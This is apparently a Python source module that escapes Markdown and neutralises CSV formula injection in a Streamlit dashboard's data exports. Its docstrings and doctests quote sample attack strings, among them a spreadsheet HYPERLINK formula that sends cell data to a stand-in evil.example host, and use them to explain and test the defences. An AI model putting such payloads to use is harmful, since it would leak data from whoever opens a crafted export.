"""What ptx does to data-derived text before a reader's software can interpret it.

Two places turn text from the source into something live:

- **Markdown** (Streamlit draws titles, captions, alerts, metric labels and tooltips, tab and
  expander labels as Markdown): a department named ``[Click me](http://evil.example)`` would
  become a link, ``![t](http://evil.example/t.png)`` a remote image. :func:`escape_markdown`
  makes a value literal text; every data-derived string a page puts into Markdown goes through
  it (static wording around it does not need to).
- **Spreadsheets** open a CSV cell that begins with ``=``, ``+``, ``-`` or ``@`` (or a tab or
  carriage return before one) as a formula: ``=HYPERLINK("http://evil.example?"&A1)`` sends
  data away. :func:`neutralise_formulas` prefixes such text cells with ``'``, as OWASP's CSV
  injection guidance and ASVS 1.2.10 ask, and :func:`csv_bytes` writes every ptx CSV export
  with it (:func:`ptx.exports.excel_bytes` every Excel one). Numbers stay numbers: numeric
  columns are untouched and a text cell that is just a number (``-12.5``, ``-1,234``) is left
  as it is, so negative values remain negative values.
"""

from __future__ import annotations

import re

import pandas as pd

# CommonMark lets any ASCII punctuation be backslash-escaped, and an escaped character is
# always literal. Escaping only those that can open a construct keeps ordinary words ("Trauma &
# Orthopaedics", "% positive", "p-chart") unchanged in the text a page sends.
_ALWAYS = re.compile(r"([\\`*_~\[\]<>|$!])")
# Streamlit's extensions (directives ":red[...]", icons ":material/x:", emoji ":smile:") and
# autolinks ("http://", "mailto:") all need a colon.
_COLON = re.compile(r":")
_AT = re.compile(r"@")  # GFM email autolinks (name@example.org)
_WWW = re.compile(r"(?i)(www)\.")  # GFM "www." autolinks
# The browser's Markdown renderer links bare addresses even when their punctuation is escaped
# (measured in Chromium: "http\://x.example", "www\.x.example" and "a\@b.example" all became
# links). A word joiner (U+2060, invisible, no width) before the colon, the "www" dot and the
# "@" stops that.
WORD_JOINER = "\u2060"
_ENTITY = re.compile(r"&(?=#?\w+;)")  # &amp; &#60; ... would be decoded
# A value at the start of a line could open a block: heading, quote, list, rule, setext line.
_BLOCK_START = re.compile(r"^(\s*)([#>+\-=])")
_ORDERED_START = re.compile(r"^(\s*\d+)([.)])")  # "1." opens a list: escape the dot
_LINE_BREAKS = re.compile(r"[\r\n\t\f\v\u2028\u2029]+")


def escape_markdown(value: object) -> str:
    """``value`` as text that Markdown (and Streamlit's extensions of it) shows literally.

    Links, images, autolinks, HTML, emphasis, code, tables, maths, directives (``:red[x]``),
    icons (``:material/x:``), emoji shortcodes and block markers at the start of the value are
    all escaped with a backslash, which Markdown removes when it draws the text; line breaks
    become spaces (a label is one line). Characters that cannot open anything are left as they
    are.

    >>> escape_markdown("[Click me](http://evil.example)")
    '\\\\[Click me\\\\](http\\u2060\\\\://evil.example)'
    >>> escape_markdown("Trauma & Orthopaedics")
    'Trauma & Orthopaedics'
    """
    text = _LINE_BREAKS.sub(" ", "" if value is None else str(value))
    text = _ALWAYS.sub(r"\\\1", text)
    text = _COLON.sub(WORD_JOINER + r"\\:", text)
    text = _AT.sub(WORD_JOINER + r"\\@", text)
    text = _WWW.sub(r"\1" + WORD_JOINER + r"\\.", text)
    text = _ENTITY.sub(r"\\&", text)
    text = _BLOCK_START.sub(r"\1\\\2", text)
    return _ORDERED_START.sub(r"\1\\\2", text)


# OWASP "CSV Injection": a cell must not begin with = + - @ tab or carriage return; ASVS 1.2.10
# adds the null character. Full-width forms are read as formulas by some spreadsheets too.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠")
# A text cell that is only a number (an exported rate of -12.5, a count of 1,234) is not a
# formula: it stays as it is, so a spreadsheet reads it as the number it is.
_NUMBER = re.compile(r"^[+-]?(?:\d{1,3}(?:,\d{3})+|\d+)?(?:\.\d+)?(?:[eE][+-]?\d+)?$")


def is_number_text(value: str) -> bool:
    """Whether text is only a number ("-12.5", "1,234", "3e5"): what a spreadsheet reads as
    one, and so never a formula.

    >>> is_number_text("-1,234.5"), is_number_text("-"), is_number_text("=1")
    (True, False, False)
    """
    return bool(_NUMBER.match(value)) and any(c.isdigit() for c in value)


def neutralise_cell(value: object) -> object:
    """A text cell prefixed with ``'`` when a spreadsheet would read it as a formula; anything
    else (numbers, dates, empty cells, text that is only a number) unchanged.

    >>> neutralise_cell('=HYPERLINK("http://evil.example")')
    '\\'=HYPERLINK("http://evil.example")'
    >>> neutralise_cell("-12.5"), neutralise_cell(-12.5)
    ('-12.5', -12.5)
    """
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return value
    if is_number_text(value):
        return value
    return "'" + value


def neutralise_formulas(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` safe to open in a spreadsheet: every text cell and column heading
    that would be read as a formula is prefixed with ``'`` (see :func:`neutralise_cell`).
    Numeric, boolean and date columns are returned as they are."""
    out = frame.copy()
    for col in out.columns:
        if out[col].dtype == object or isinstance(out[col].dtype, pd.StringDtype):
            out[col] = out[col].map(neutralise_cell)
    out.columns = [neutralise_cell(c) for c in out.columns]
    return out


def csv_bytes(frame: pd.DataFrame) -> bytes:
    """``frame`` as UTF-8 CSV for a download, formula cells neutralised: what every export of
    the dashboard writes.

    Rows end with CR LF (RFC 4180), so a cell holding a carriage return is quoted and stays
    one cell (with pandas' default line feed it was written bare, and a spreadsheet split the
    row there).

    >>> csv_bytes(pd.DataFrame({"Department": ["=1+1"], "Change": [-2.5]}))
    b"Department,Change\\r\\n'=1+1,-2.5\\r\\n"
    """
    return neutralise_formulas(frame).to_csv(index=False, lineterminator="\r\n").encode("utf-8")
